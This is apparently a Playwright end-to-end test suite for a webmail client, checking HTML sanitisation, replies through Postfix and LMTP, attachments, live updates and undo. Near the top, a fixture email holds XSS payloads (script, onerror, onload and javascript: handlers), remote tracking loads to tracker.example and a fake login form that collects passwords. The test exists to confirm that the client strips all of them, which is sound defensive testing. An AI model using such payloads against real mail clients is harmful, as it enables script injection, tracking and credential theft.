import { randomBytes } from 'node:crypto';
import { expect, test } from './fixtures';
import { countMessages, freshMessageId, openImap, place, submit } from './mail-clients';
import { stack } from './stack';

/** Attacks in a message: scripts, remote loads, and misleading content. */
const hostile = `
  <h1>Spring offer</h1><p>Everything at half its price.</p>
  <script>parent.document.title = 'taken over'; fetch('http://tracker.example/script')</script>
  <img src="x" onerror="parent.document.title = 'taken over'">
  <img src="http://tracker.example/pixel.png" width="1" height="1">
  <div style="background:url(http://tracker.example/style.png)">styled</div>
  <link rel="stylesheet" href="http://tracker.example/sheet.css">
  <form action="http://tracker.example/form"><input name="password"><button>Log in again</button></form>
  <a href="javascript:parent.document.title='taken over'">Press me</a>
  <svg onload="parent.document.title = 'taken over'"></svg>
  <iframe src="http://tracker.example/frame"></iframe>
  <base href="http://tracker.example/"><meta http-equiv="refresh" content="0;url=http://tracker.example/meta">`;

test('folders show unread counts, and a message is shown with sanitised HTML', async ({ world, arrive }) => {
  const { anna, ben } = world;
  const from = `Ben <${ben.address}>`;
  await place(anna, 'INBOX', { from, to: anna.address, subject: 'First', text: 'one' });
  await place(anna, 'INBOX', {
    from,
    to: anna.address,
    subject: '<script>alert(1)</script> & "half" price',
    html: hostile,
  });
  await place(anna, 'Trash', { from, to: anna.address, subject: 'Old', text: '' });

  const page = await arrive(anna);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(stack.url) && /^https?:/.test(request.url())) elsewhere.push(request.url());
  });
  const folders = page.getByRole('navigation', { name: 'Folders' });
  await expect(folders.getByRole('link', { name: /Inbox/ })).toContainText('2');
  await expect(folders.getByRole('link', { name: /Trash/ })).toBeVisible();

  // The subject is text, as it was sent.
  await page.getByRole('link', { name: /<script>alert\(1\)<\/script> & "half" price/ }).click();
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('Everything at half its price.')).toBeVisible();
  await expect(frame.getByText('Press me')).toBeVisible();
  await expect(page.getByText(/pictures? from tracker\.example blocked/)).toBeVisible();
  expect(await frame.locator('script, form, iframe, link, meta[http-equiv=refresh], base[href]').count()).toBe(0);
  expect(await frame.locator('[onerror], [onload], [href^="javascript:"]').count()).toBe(0);
  await expect(page).not.toHaveTitle(/taken over/);
  expect(elsewhere).toEqual([]);

  // It is now marked as read everywhere.
  await expect(folders.getByRole('link', { name: /Inbox/ })).toContainText('1');
  const client = await openImap(anna);
  await client.mailboxOpen('INBOX');
  expect(await client.search({ seen: false }, { uid: true })).toHaveLength(1);
  await client.logout();

  // A message without text says so.
  await folders.getByRole('link', { name: /Trash/ }).click();
  await page.getByRole('link', { name: /Old/ }).click();
  await expect(page.getByText('This message has no text.')).toBeVisible();
});

test('a reply arrives in the other mailbox, through Postfix and LMTP', async ({ world, arrive }) => {
  const { anna, ben } = world;
  const messageId = freshMessageId();
  await submit(ben, { from: ben.address, to: anna.address, subject: 'Lunch?', text: 'At noon?', messageId });

  const page = await arrive(anna);
  await page.getByRole('link', { name: /Lunch\?/ }).click();
  // In the list and in the opened message.
  await expect(page.getByText('At noon?', { exact: true })).toHaveCount(2);
  await page.getByRole('button', { name: 'Reply', exact: true }).first().click();
  const compose = page.getByRole('textbox', { name: 'Message', exact: true });
  await compose.pressSequentially('Yes, at noon.');
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(page.getByText('Message sent')).toBeVisible();

  const client = await openImap(ben);
  await expect.poll(() => countMessages(client, 'Re: Lunch?')).toBe(1);
  await client.mailboxOpen('INBOX');
  const reply = await client.fetchOne('*', { envelope: true, headers: ['received', 'references'], source: true });
  if (!reply) throw new Error('the reply cannot be fetched');
  expect(reply.envelope?.inReplyTo).toBe(messageId);
  expect(reply.source?.toString()).toContain('Yes, at noon.');
  expect(reply.headers?.toString()).toMatch(/LMTP/);
  expect(reply.headers?.toString()).toMatch(/Postfix/);
  await client.logout();

  // The reply is in Sent, and the original is marked as answered.
  await page.getByRole('navigation', { name: 'Folders' }).getByRole('link', { name: /Sent/ }).click();
  await expect(page.getByRole('link', { name: /Re: Lunch\?/ })).toBeVisible();
  const own = await openImap(anna);
  await own.mailboxOpen('INBOX');
  expect(await own.search({ answered: true }, { uid: true })).toHaveLength(1);
  await own.logout();
});

test('a file attached to a reply arrives unchanged', async ({ world, arrive }) => {
  const { anna, ben } = world;
  await place(anna, 'INBOX', { from: ben.address, to: anna.address, subject: 'The plan?', text: 'Please.' });
  const page = await arrive(anna);
  await page.getByRole('link', { name: /The plan\?/ }).click();
  await page.getByRole('button', { name: 'Reply', exact: true }).first().click();
  const bytes = randomBytes(300_000);
  const chosen = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Attach files' }).click();
  await (await chosen).setFiles({ name: 'plan für März.bin', mimeType: 'application/octet-stream', buffer: bytes });
  await expect(page.getByText('plan für März.bin')).toBeVisible();
  await page.getByRole('textbox', { name: 'Message', exact: true }).pressSequentially('Here it is.');
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  await expect(page.getByText('Message sent')).toBeVisible();

  const client = await openImap(ben);
  await expect.poll(() => countMessages(client, 'Re: The plan?')).toBe(1);
  await client.mailboxOpen('INBOX');
  const fetched = await client.fetchOne('*', { bodyStructure: true });
  const part = fetched
    ? fetched.bodyStructure?.childNodes?.find(({ disposition }) => disposition === 'attachment')
    : null;
  expect(part?.dispositionParameters?.filename).toBe('plan für März.bin');
  const file = await client.download('*', part?.part);
  expect(bytes.equals(Buffer.concat((await file.content?.toArray()) ?? []))).toBe(true);
  await client.logout();
});

test('new mail appears without a reload', async ({ world, arrive }) => {
  const { anna, ben } = world;
  const page = await arrive(anna);
  await expect(page.getByText('New mail appears here within about a second')).toBeVisible();
  await submit(ben, { from: ben.address, to: anna.address, subject: 'Just now', text: 'x' });
  await expect(page.getByRole('link', { name: /Just now/ })).toBeVisible();
});

test('moving to the trash can be undone', async ({ world, arrive }) => {
  const { anna, ben } = world;
  await place(anna, 'INBOX', { from: ben.address, to: anna.address, subject: 'Keep me', text: 'x' });
  const page = await arrive(anna);
  await page.getByRole('link', { name: /Keep me/ }).click();
  await page.getByRole('button', { name: 'Delete', exact: true }).first().click();
  await expect(page.getByRole('link', { name: /Keep me/ })).toHaveCount(0);
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByRole('link', { name: /Keep me/ })).toBeVisible();
});
